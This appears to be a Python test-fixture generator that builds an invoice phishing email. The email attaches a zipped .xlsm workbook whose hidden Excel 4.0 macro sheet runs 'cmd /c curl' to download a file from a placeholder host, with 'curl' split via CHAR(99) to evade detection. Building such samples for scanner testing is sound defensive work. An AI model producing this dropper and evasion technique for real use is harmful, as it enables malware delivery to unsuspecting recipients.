"""The same in a package, the sheet hidden and the command in pieces."""
from kit import *

FORMULAS = ['=EXEC("cmd /c "&CHAR(99)&"url"&" http://files.example.invalid/y -o y")', "=HALT()"]


def make():
    book = office.xlsm_xlm(FORMULAS, hidden=1)
    return (Mail("invoice", "billing@example.net").text("Please find the invoice attached.\n")
            .attach("invoice.zip", Zip().add("invoice.xlsm", book).bytes(), "application/zip").bytes())
